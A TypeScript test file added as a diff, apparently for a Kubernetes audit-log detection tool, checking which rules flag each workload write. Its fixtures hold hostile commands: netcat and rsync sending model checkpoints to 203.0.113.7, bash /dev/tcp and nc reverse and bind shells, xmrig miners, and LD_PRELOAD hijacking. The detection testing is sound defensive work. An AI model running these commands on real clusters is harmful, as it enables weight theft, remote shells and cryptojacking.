@@ -1,0 +1,104 @@
+/**
+ * The workload rules (MLS-RAY-033 … 035, MLS-POISON-013, MLS-EXFIL-049) over audit events as the
+ * real audit reader stores them (ingest pipeline → case file → caseEvents → the shipped rule set):
+ * what a created or changed workload will run is read from the restored request body
+ * (workload-fields.ts), whichever wrapper carries the pod spec; a subresource write other than a
+ * pod's ephemeral containers (an exec, a status) runs nothing of its body.
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { CaseStore } from '../store/case-store.js';
+import { ingestBundle } from '../ingest/pipeline.js';
+import { openBundleRoot } from '../ingest/archive/fs-root.js';
+import { caseEvents } from './case-events.js';
+import { defaultRulesDir, loadRulesFrom } from './rule-files.js';
+import { createRuleEngine, decideLayer1 } from './rules/engine.js';
+
+const dir = mkdtempSync(join(tmpdir(), 'mlshield-workload-'));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+const WORKLOAD_RULES: ReadonlySet<string> = new Set(['MLS-RAY-033', 'MLS-RAY-034', 'MLS-RAY-035', 'MLS-POISON-013', 'MLS-EXFIL-049', 'MLS-EXFIL-039']);
+const ALICE = { username: 'oidc:alice@corp.example', groups: ['system:authenticated'] };
+const JOB_CONTROLLER = { username: 'system:serviceaccount:kube-system:job-controller', groups: [] };
+const RS_CONTROLLER = { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: [] };
+const CKPT = { name: 'ck', persistentVolumeClaim: { claimName: 'llama-ft-ckpt' } };
+
+let n = 0;
+/** One audit.k8s.io/v1 Event line at level Request: a write of `resource` with `body`, a second after the one before. */
+function write(verb: string, resource: string, body: Record<string, unknown>, code = 201, user: Record<string, unknown> = ALICE, apiGroup = '', subresource = ''): string {
+  const at = new Date(Date.UTC(2026, 10, 20, 9, 0, n++)).toISOString();
+  const base = apiGroup === '' ? '/api/v1' : `/apis/${apiGroup}/v1`;
+  return JSON.stringify({
+    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', auditID: `workload-${n}`, stage: 'ResponseComplete',
+    requestURI: `${base}/namespaces/ml-train/${resource}${subresource ? `/w${n}/${subresource}` : ''}`, verb, user, sourceIPs: ['10.0.0.5'], userAgent: 'kubectl/v1.30.2',
+    objectRef: { resource, namespace: 'ml-train', name: `w${n}`, apiVersion: 'v1', ...(apiGroup ? { apiGroup } : {}), ...(subresource ? { subresource } : {}) },
+    responseStatus: { metadata: {}, code }, requestObject: body, requestReceivedTimestamp: at, stageTimestamp: at,
+  });
+}
+const pod = (spec: Record<string, unknown>): Record<string, unknown> => ({ kind: 'Pod', apiVersion: 'v1', spec });
+const templated = (kind: string, spec: Record<string, unknown>): Record<string, unknown> => ({ kind, spec: { template: { spec } } });
+
+describe('workload rules through the real audit reader', () => {
+  it('decide each workload write as the rule files say', async () => {
+    const lines = [
+      // Weights sent off from a person's own pod or Job (MLS-EXFIL-049): netcat, rsync to a host, an Argo script piping to nc.
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'nc 203.0.113.7 4444 < /mnt/ckpt/model.safetensors'] }], volumes: [CKPT] })),
+      write('create', 'jobs', templated('Job', { containers: [{ name: 'c', image: 'instrumentisto/rsync-ssh', args: ['-c', 'rsync -az /mnt/ckpt/ backup@203.0.113.7:/x/'] }], volumes: [CKPT] }), 201, ALICE, 'batch'),
+      write('create', 'workflows', { kind: 'Workflow', spec: { templates: [{ name: 'main', script: { image: 'alpine', command: ['sh'], source: 'cat /data/out/model-00001-of-00002.safetensors | nc 203.0.113.7 9000' } }] } }, 201, ALICE, 'argoproj.io'),
+      // The Job controller's pod for that Job (a service account: left), a bucket copy and a loopback curl upload (left), a port check beside a checkpoint claim (left).
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'instrumentisto/rsync-ssh', args: ['-c', 'rsync -az /mnt/ckpt/ backup@203.0.113.7:/x/'] }], volumes: [CKPT] }), 201, JOB_CONTROLLER),
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'amazon/aws-cli', command: ['aws', 's3', 'cp', '/mnt/ckpt/model.pt', 's3://corp-ckpt/llama/'] }], volumes: [CKPT] })),
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'curlimages/curl', command: ['curl', '-T', '/mnt/ckpt/model.pt', 'http://127.0.0.1:9000/up'] }], volumes: [CKPT] })),
+      write('update', 'deployments', templated('Deployment', { containers: [{ name: 'c', image: 'redis-probe', command: ['sh', '-c', 'nc -zv redis 6379'] }], volumes: [CKPT] }), 200, ALICE, 'apps'),
+      // A miner: by image in a person's Deployment, by its pool in a controller's pod; a refused one (left).
+      write('create', 'deployments', templated('Deployment', { containers: [{ name: 'm', image: 'docker.io/xmrig/xmrig:6.21.0', args: ['-o', 'pool.example:3333'] }] }), 201, ALICE, 'apps'),
+      write('create', 'pods', pod({ containers: [{ name: 'm', image: 'ubuntu:22.04', command: ['/opt/sys/kworker', '-o', 'stratum+tcp://pool.example:3333', '--donate-level', '1'] }] }), 201, RS_CONTROLLER),
+      write('create', 'daemonsets', templated('DaemonSet', { containers: [{ name: 'm', image: 'xmrig/xmrig' }] }), 403, ALICE, 'apps'),
+      // A reverse shell in a DaemonSet's postStart hook, and in a RayJob's entrypoint (MLS-RAY-034).
+      write('create', 'daemonsets', templated('DaemonSet', { containers: [{ name: 'n', image: 'nginx', lifecycle: { postStart: { exec: { command: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &'] } } } }] }), 201, ALICE, 'apps'),
+      write('create', 'rayjobs', { kind: 'RayJob', spec: { entrypoint: 'sh -c "nc -e /bin/sh 203.0.113.7 4444"', rayClusterSpec: { headGroupSpec: { template: { spec: { containers: [{ name: 'head', image: 'rayproject/ray:2.9.0' }] } } } } } }, 201, ALICE, 'ray.io'),
+      // Library hijacking through the environment: a preload from a host mount in a PyTorchJob (MLS-RAY-035), PYTHONPATH in /tmp in a CronJob (MLS-POISON-013).
+      write('create', 'pytorchjobs', { kind: 'PyTorchJob', spec: { pytorchReplicaSpecs: { Worker: { replicas: 4, template: { spec: { containers: [{ name: 'pytorch', image: 'corp/llama-ft:1.4', command: ['torchrun', 'train.py'], env: [{ name: 'LD_PRELOAD', value: '/host/var/lib/x/libcudahook.so' }] }] } } } } } }, 201, ALICE, 'kubeflow.org'),
+      write('create', 'cronjobs', { kind: 'CronJob', spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { containers: [{ name: 'eval', image: 'corp/eval:2', command: ['python', '-m', 'harness.run'], env: [{ name: 'PYTHONPATH', value: '/tmp/p:/workspace/src' }] }] } } } } } }, 201, ALICE, 'batch'),
+      // An everyday training job: an allocator preloaded from the image, the project's own paths, the driver's libraries (left).
+      write('create', 'pytorchjobs', { kind: 'PyTorchJob', spec: { pytorchReplicaSpecs: { Master: { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: 'corp/llama-ft:1.4', command: ['torchrun', '--nproc-per-node=8', 'train.py', '--ckpt-dir', '/mnt/ckpt'], env: [{ name: 'LD_PRELOAD', value: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' }, { name: 'PYTHONPATH', value: '/workspace/src' }, { name: 'LD_LIBRARY_PATH', value: '/usr/local/nvidia/lib64' }] }], volumes: [CKPT] } } } } } }, 201, ALICE, 'kubeflow.org'),
+      // A debug container added to a running pod with a bind shell (MLS-RAY-034); the kubelet's status patch of a pod whose spec says the same (left: a status write runs nothing).
+      write('patch', 'pods', { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox', command: ['nc', '-lp', '4444', '-e', '/bin/sh'] }] } }, 200, ALICE, '', 'ephemeralcontainers'),
+      write('patch', 'pods', { spec: { containers: [{ name: 'm', image: 'xmrig/xmrig' }] } }, 200, { username: 'system:node:gpu-node-7', groups: ['system:nodes'] }, '', 'status'),
+    ];
+    writeFileSync(join(dir, 'audit.log'), `${lines.join('\n')}\n`);
+    const store = CaseStore.open(join(dir, 'case.sqlite'));
+    try {
+      await ingestBundle(await openBundleRoot(dir), store);
+      const engine = createRuleEngine(loadRulesFrom([defaultRulesDir()!]).rules);
+      const got = [...caseEvents(store.db)].map((e) => {
+        const hits = engine.evaluate(e);
+        const ours = hits.filter((h) => WORKLOAD_RULES.has(h.ruleId)).map((h) => h.ruleId);
+        return `${e.line} ${e.resource} ${ours.join(',') || '-'} ${ours.length > 0 ? decideLayer1(hits).decision : ''}`.trim();
+      });
+      expect(got).toEqual([
+        '1 pods MLS-EXFIL-049,MLS-EXFIL-039 alert',
+        '2 jobs MLS-EXFIL-049 alert',
+        '3 workflows MLS-EXFIL-049 alert',
+        '4 pods -',
+        '5 pods MLS-EXFIL-039 escalate',
+        '6 pods MLS-EXFIL-039 escalate',
+        '7 deployments -',
+        '8 deployments MLS-RAY-033 alert',
+        '9 pods MLS-RAY-033 alert',
+        '10 daemonsets -',
+        '11 daemonsets MLS-RAY-034 alert',
+        '12 rayjobs MLS-RAY-034 alert',
+        '13 pytorchjobs MLS-RAY-035 alert',
+        '14 cronjobs MLS-POISON-013 escalate',
+        '15 pytorchjobs -',
+        '16 pods/ephemeralcontainers MLS-RAY-034 alert',
+        '17 pods/status -',
+      ]);
+    } finally {
+      store.close();
+    }
+  });
+});
